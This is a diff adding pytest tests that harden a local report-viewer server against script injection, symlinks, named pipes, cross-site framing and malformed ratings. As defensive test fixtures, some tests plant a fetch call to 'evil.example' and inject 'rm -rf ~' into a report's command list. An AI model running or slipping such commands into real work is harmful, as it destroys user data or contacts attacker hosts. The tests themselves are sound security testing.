@@ -4,9 +4,12 @@ from __future__ import annotations
 
 import http.client
 import json
+import multiprocessing
+import os
+import re
 import socket
 import threading
-from collections.abc import Iterator
+from collections.abc import Iterator, Mapping
 from pathlib import Path
 
 import pytest
@@ -14,6 +17,7 @@ from report_fakes import report_of, row_of
 
 from editeval.errors import MachineError, UserError
 from editeval.reports.site import page
+from editeval.reports.site.payload import data_of, script
 from editeval.reports.site.write import write_report_html
 from editeval.viewer import ratings
 from editeval.viewer.server import MAX_BODY, ShownRun, Viewer
@@ -64,6 +68,14 @@ def ask(viewer: Viewer, path: str, method: str = "GET", body: object = None, **h
         connection.close()
 
 
+def headers(viewer: Viewer, path: str) -> Mapping[str, str]:
+    connection = http.client.HTTPConnection("127.0.0.1", viewer.port, timeout=60)
+    connection.request("GET", f"/{viewer.token}/{path}")
+    found = dict(connection.getresponse().getheaders())
+    connection.close()
+    return found
+
+
 def rate(viewer: Viewer, body: object, **headers: str) -> Answer:
     own = {"Origin": f"http://127.0.0.1:{viewer.port}", "Content_Type": "application/json"}
     return ask(viewer, "runs/0/ratings", "POST", body, **(own | headers))
@@ -78,10 +90,49 @@ def test_it_gives_the_page_the_front_end_and_the_files_of_a_report(viewer: Viewe
         f"edits/{STEM}.png",
         f"report/thumbs/{STEM}.webp",
         f"report/pictures/{STEM}.jpg",
-        "report/data/run.js",
     ):
         assert ask(viewer, f"runs/0/{name}") == (200, (run_dir / name).read_bytes())
     assert ask(viewer, "runs/0/ratings") == (200, b'{"ratings": {}}')
+    status, body = ask(viewer, "runs/0/data/rows-0")
+    assert status == 200 and [row[0] for row in json.loads(body)] == [row_of(0).id]
+    assert json.loads(ask(viewer, "runs/0/data/run")[1])["num_samples"] == 1
+
+
+def test_only_the_front_end_runs_and_data_are_json(viewer: Viewer, run_dir: Path) -> None:
+    """What lies in the run is sent as what it is for, and no script that has not this answer's nonce runs."""
+    head, page_of = headers(viewer, ""), ask(viewer, "")[1].decode()
+    nonce = re.search(r"script-src &#39;nonce-([\w-]{20,})&#39;|script-src 'nonce-([\w-]{20,})'", page_of)
+    assert nonce and page_of.count(f'nonce="{nonce[1] or nonce[2]}"') == len(page.SCRIPTS)
+    assert "frame-ancestors 'none'" in head["Content-Security-Policy"]
+    assert nonce[0] not in ask(viewer, "")[1].decode(), "another one each time"
+    (run_dir / "report" / "data" / "rows-0.js").write_text("fetch('http://evil.example')")
+    assert ask(viewer, "runs/0/report/data/rows-0.js")[0] == 404
+    status, body = ask(viewer, "runs/0/data/rows-0")
+    assert status == 409 and b"evil" not in body
+    for name in ("data/run", f"edits/{STEM}.png", "ratings", f"report/thumbs/{STEM}.webp"):
+        head = headers(viewer, f"runs/0/{name}")
+        assert "javascript" not in head["Content-Type"] and head["X-Content-Type-Options"] == "nosniff"
+        assert "default-src 'none'" in head["Content-Security-Policy"]
+
+
+def test_a_link_or_a_pipe_in_the_place_of_a_picture_gives_nothing(viewer: Viewer, run_dir: Path) -> None:
+    for number, folder in enumerate(("edits", "report/thumbs", "report/pictures")):
+        name = f"{number:032x}.{'png' if number != 1 else 'webp'}"
+        (run_dir / folder / name).symlink_to(run_dir.parent / "outside.png")
+        assert ask(viewer, f"runs/0/{folder}/{name}")[0] == 404
+        (run_dir / folder / name).unlink()
+        os.mkfifo(run_dir / folder / name)
+        assert ask(viewer, f"runs/0/{folder}/{name}")[0] == 404
+
+
+def test_what_to_type_is_not_a_strangers_to_say(run_dir: Path) -> None:
+    path = run_dir / "report" / "data" / "run.js"
+    path.write_text(path.read_text().replace('"commands":{', '"commands":{"more":"rm -rf ~",'))
+    path.write_text(re.sub(r'"commands": ?\{', '"commands": {"more": "rm -rf", ', path.read_text()))
+    for is_own in (True, False):
+        block = ShownRun(run_dir, "abc", "run", frozenset(), is_own=is_own).block()
+        assert ("rm" in json.dumps(block["commands"])) == is_own
+    assert f"editeval show {run_dir}" in block["commands"]["show"]
 
 
 def test_the_page_is_that_of_the_report_as_it_is_now(viewer: Viewer, run_dir: Path) -> None:
@@ -250,6 +301,49 @@ def test_many_readers_and_writers_lose_nothing(viewer: Viewer, run_dir: Path) ->
     for thread in threads:
         thread.join(timeout=60)
     assert set(ratings.read(run_dir)) == {"a", "__proto__"}
+
+
+def _rates(run_dir: Path, which: int) -> None:
+    for number in range(20):
+        ratings.change(run_dir, "abc", {f"{which}-{number}": {"stars": 1 + which}}, {f"{which}-{number}"})
+
+
+def test_two_viewers_lose_no_rating(run_dir: Path) -> None:
+    """Two processes, as two `editeval view` of one run are."""
+    context = multiprocessing.get_context("fork")
+    viewers = [context.Process(target=_rates, args=(run_dir, which)) for which in (0, 1)]
+    for one in viewers:
+        one.start()
+    for one in viewers:
+        one.join(timeout=120)
+    assert len(ratings.read(run_dir)) == 40
+
+
+@pytest.mark.parametrize(
+    "text", ['{"ratings": ' + "[" * 100_000, '{"ratings": {"a": ' + '{"b":' * 99 + "1" + "}" * 101]
+)
+def test_deep_ratings_are_told_in_one_line(run_dir: Path, text: str) -> None:
+    (run_dir / "ratings.json").write_text(text)
+    with pytest.raises(UserError, match="not a file of ratings"):
+        ratings.read(run_dir)
+
+
+@pytest.mark.parametrize(
+    "change", [{"summaries": 5}, {"run": None}, {"worst": [[1, [2]]]}, {"coverage": {}}, {"row": {}}]
+)
+def test_a_report_of_other_shapes_is_one_line(viewer: Viewer, run_dir: Path, change: dict[str, object]) -> None:
+    path = run_dir / "report" / "data" / "run.js"
+    block = json.loads(data_of(run_dir, "run", 0)) | change
+    path.write_bytes(script("run", 0, json.dumps(block)))
+    status, body = ask(viewer, "")
+    assert status == 409 and b"\n" not in body, body
+
+
+def test_the_page_may_be_opened_from_a_file_of_ours_and_nothing_else_may(viewer: Viewer) -> None:
+    browser = {"Sec_Fetch_Site": "cross-site", "Sec_Fetch_Dest": "document"}
+    assert ask(viewer, "", **browser)[0] == 200
+    assert ask(viewer, "", Sec_Fetch_Site="cross-site", Sec_Fetch_Dest="iframe")[0] == 403
+    assert ask(viewer, "runs/0/data/run", **browser)[0] == 403
 
 
 def test_a_port_in_use_is_said_in_one_line(viewer: Viewer) -> None:
